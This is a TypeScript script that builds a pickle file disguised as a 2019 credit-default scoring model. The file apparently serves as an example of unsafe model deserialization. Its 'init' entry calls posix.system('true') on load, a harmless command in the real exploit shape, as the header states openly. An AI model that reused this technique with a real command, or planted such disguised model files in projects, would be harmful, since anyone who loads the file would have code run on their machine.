// Writes examples/credit-scoring/legacy/credit-model-2019.pkl byte by byte: a pickle that
// looks like an old scoring model but calls posix.system("true") when loaded. The payload is
// harmless, the shape is a real exploit: never load this file with pickle/joblib.
//   npx tsx scripts/examples/make-legacy-model.ts
import { mkdirSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { fileURLToPath } from 'node:url';

const out = path.resolve(path.dirname(fileURLToPath(import.meta.url)), '../../examples/credit-scoring/legacy/credit-model-2019.pkl');

function unicode(text: string): Buffer {
  const bytes = Buffer.from(text, 'utf8');
  const length = Buffer.alloc(4);
  length.writeUInt32LE(bytes.length);
  return Buffer.concat([Buffer.from('X'), length, bytes]); // BINUNICODE
}

function float(value: number): Buffer {
  const b = Buffer.alloc(9);
  b[0] = 0x47; // BINFLOAT
  b.writeDoubleBE(value, 1);
  return b;
}

const coefficients = [-0.31, 0.07, -0.12, 0.02, 0.54, 0.11, 0.08, -0.02];
const pickle = Buffer.concat([
  Buffer.from([0x80, 0x02]), // PROTO 2
  Buffer.from('}'), // EMPTY_DICT
  Buffer.from('('), // MARK
  unicode('name'), unicode('credit-default-logit'),
  unicode('trained'), unicode('2019-04-02'),
  unicode('coef'), Buffer.from(']('), ...coefficients.map(float), Buffer.from('e'), // EMPTY_LIST MARK ... APPENDS
  unicode('intercept'), float(-1.27),
  unicode('init'), Buffer.from('cposix\nsystem\n'), unicode('true'), Buffer.from([0x85]), Buffer.from('R'), // GLOBAL, TUPLE1, REDUCE
  Buffer.from('u'), // SETITEMS
  Buffer.from('.'), // STOP
]);
mkdirSync(path.dirname(out), { recursive: true });
writeFileSync(out, pickle);
process.stdout.write(`wrote ${path.relative(process.cwd(), out)} (${pickle.length} bytes)\n`);
